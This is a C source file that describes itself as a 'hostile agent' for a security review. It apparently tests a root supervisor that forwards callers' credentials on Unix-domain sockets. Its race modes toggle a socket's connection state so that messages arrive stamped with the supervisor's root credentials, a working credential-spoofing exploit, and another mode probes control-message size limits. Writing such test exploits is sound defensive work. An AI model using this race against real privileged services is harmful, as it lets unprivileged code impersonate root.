/* ha54-agent: hostile agent for review h-attack54 (the caller's credentials
 * a root supervisor prepends to the AF_UNIX sends it performs, with
 * CAP_SYS_ADMIN raised around the one sendmsg: 9e16898).
 *
 * Modes (argv[1]):
 *   epermrace [N]  a SOCK_DGRAM receiver P bound to an abstract name of
 *                  the run with SO_PASSCRED, and a socket X; a thread
 *                  connects P to X and disconnects it (AF_UNSPEC) in a
 *                  loop. N times, an unconnected socket S sends one byte
 *                  to P's name: the kernel refuses it (EPERM,
 *                  unix_may_send) while P is connected to X, and sends it
 *                  with our own credentials otherwise. The supervisor,
 *                  refused with EPERM, sends again without the caller's
 *                  credentials: if P was disconnected meanwhile, the byte
 *                  arrives with the supervisor's (pid 0 in the run, uid
 *                  0). Counts the bytes P received by the pid/uid they
 *                  name. Exit 0 when one named other ids than ours.
 *   sendtorace [N] the same with sendto(2) in place of sendmsg(2): the
 *                  supervisor performs it (on_sendto) with its own
 *                  credentials always, raced or not (HA54_NOTOGGLE=1: P
 *                  never connected).
 *   optmem CLEN    a SOCK_DGRAM socketpair; sendmsg of one byte with a
 *                  control of CLEN bytes: SCM_RIGHTS headers with no
 *                  descriptor (cmsg_len 16, which the kernel and the walk
 *                  both accept on AF_UNIX), and a tail shorter than one
 *                  header. Prints the result. Exit 0 when it was sent.
 *   loop N         N sendmsg of one byte on a SOCK_DGRAM socketpair
 *                  (received as they go); prints the time per call. */
#include <errno.h>
#include <pthread.h>
#include <stddef.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static atomic_int stop;
static int P, X;
static struct sockaddr_un xaddr, paddr;
static socklen_t xlen, plen;

static atomic_long own, other;

/* Drains P while it is unconnected: a later disconnect purges its queue
 * (unix_dgram_disconnected), so a byte that came meanwhile may be lost
 * (counted low, never high). */
static void drain(void)
{
	for (;;) {
		char byte, cbuf[256];
		struct iovec iov = {.iov_base = &byte, .iov_len = 1};
		struct msghdr mh = {.msg_iov = &iov,
				    .msg_iovlen = 1,
				    .msg_control = cbuf,
				    .msg_controllen = sizeof(cbuf)};
		struct cmsghdr *cm;

		if (recvmsg(P, &mh, MSG_DONTWAIT) != 1)
			return;
		for (cm = CMSG_FIRSTHDR(&mh); cm; cm = CMSG_NXTHDR(&mh, cm))
			if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_CREDENTIALS) {
				struct ucred u;

				memcpy(&u, CMSG_DATA(cm), sizeof(u));
				if (u.pid == getpid() && u.uid == getuid() && u.gid == getgid()) {
					atomic_fetch_add(&own, 1);
				} else if (atomic_fetch_add(&other, 1) < 3) {
					printf(
					    "received creds pid %d uid %u gid %u (ours: pid %d uid "
					    "%u gid %u)\n",
					    (int)u.pid, u.uid, u.gid, (int)getpid(), getuid(),
					    getgid());
				}
			}
	}
}

static void *toggler(void *arg)
{
	struct sockaddr unspec = {.sa_family = AF_UNSPEC};

	(void)arg;
	while (!atomic_load(&stop)) {
		(void)connect(P, (struct sockaddr *)&xaddr, xlen);
		(void)connect(P, &unspec, sizeof(unspec));
		drain();
	}
	return NULL;
}

static socklen_t abstract(struct sockaddr_un *a, const char *name)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	memcpy(a->sun_path + 1, name, strlen(name));
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static int epermrace(long n, int use_sendto)
{
	int S, on = 1;
	long eperm = 0, sent = 0, other_err = 0;
	pthread_t t;
	char name[64];

	snprintf(name, sizeof(name), "ha54p-%d", (int)getpid());
	plen = abstract(&paddr, name);
	snprintf(name, sizeof(name), "ha54x-%d", (int)getpid());
	xlen = abstract(&xaddr, name);
	P = socket(AF_UNIX, SOCK_DGRAM, 0);
	X = socket(AF_UNIX, SOCK_DGRAM, 0);
	S = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (P < 0 || X < 0 || S < 0 || bind(P, (struct sockaddr *)&paddr, plen) != 0 ||
	    bind(X, (struct sockaddr *)&xaddr, xlen) != 0 ||
	    setsockopt(P, SOL_SOCKET, SO_PASSCRED, &on, sizeof(on)) != 0)
		return perror("setup"), 2;
	/* HA54_NOTOGGLE: P stays unconnected (every send is the kernel's). */
	if (getenv("HA54_NOTOGGLE"))
		atomic_store(&stop, 1);
	if (pthread_create(&t, NULL, toggler, NULL) != 0)
		return 2;
	for (long i = 0; i < n; i++) {
		struct iovec iov = {.iov_base = "x", .iov_len = 1};
		struct msghdr mh = {
		    .msg_name = &paddr, .msg_namelen = plen, .msg_iov = &iov, .msg_iovlen = 1};
		ssize_t r = use_sendto
				? sendto(S, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&paddr, plen)
				: sendmsg(S, &mh, MSG_DONTWAIT);

		if (r == 1)
			sent++;
		else if (errno == EAGAIN && getenv("HA54_NOTOGGLE"))
			drain();
		else if (errno == EPERM)
			eperm++;
		else
			other_err++;
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	drain();
	printf("epermrace %ld: EPERM %ld, sent %ld (ours %ld, other ids %ld), other errors %ld\n",
	       n, eperm, sent, atomic_load(&own), atomic_load(&other), other_err);
	return atomic_load(&other) ? 0 : 1;
}

static int optmem(size_t clen)
{
	int sv[2];
	unsigned char *ctl = calloc(1, clen + 16);
	size_t at;
	struct iovec iov = {.iov_base = "x", .iov_len = 1};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = clen};
	char b;

	if (!ctl || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
		return perror("socketpair"), 2;
	for (at = 0; at + 16 <= clen; at += 16) {
		struct cmsghdr h = {
		    .cmsg_len = 16, .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};

		memcpy(ctl + at, &h, sizeof(h));
	}
	/* The raw call: musl copies control data into a 1056-byte buffer. */
	if (syscall(SYS_sendmsg, sv[0], &mh, MSG_DONTWAIT) != 1) {
		printf("optmem %zu: sendmsg: %s\n", clen, strerror(errno));
		return 1;
	}
	if (recv(sv[1], &b, 1, MSG_DONTWAIT) != 1)
		return perror("recv"), 2;
	printf("optmem %zu: sent\n", clen);
	return 0;
}

static int loop(long n)
{
	int sv[2];
	char b;
	struct timespec t0, t1;

	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
		return perror("socketpair"), 2;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (long i = 0; i < n; i++) {
		struct iovec iov = {.iov_base = "x", .iov_len = 1};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};

		if (sendmsg(sv[0], &mh, 0) != 1)
			return perror("sendmsg"), 1;
		if (recv(sv[1], &b, 1, 0) != 1)
			return perror("recv"), 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	printf("loop %ld: %.1f us per sendmsg\n", n,
	       ((t1.tv_sec - t0.tv_sec) * 1e9 + (t1.tv_nsec - t0.tv_nsec)) / 1e3 / n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "epermrace"))
		return epermrace(argc > 2 ? atol(argv[2]) : 20000, 0);
	if (!strcmp(argv[1], "sendtorace"))
		return epermrace(argc > 2 ? atol(argv[2]) : 20000, 1);
	if (!strcmp(argv[1], "optmem"))
		return optmem(argc > 2 ? strtoull(argv[2], NULL, 0) : 20479);
	if (!strcmp(argv[1], "loop"))
		return loop(argc > 2 ? atol(argv[2]) : 10000);
	return 2;
}
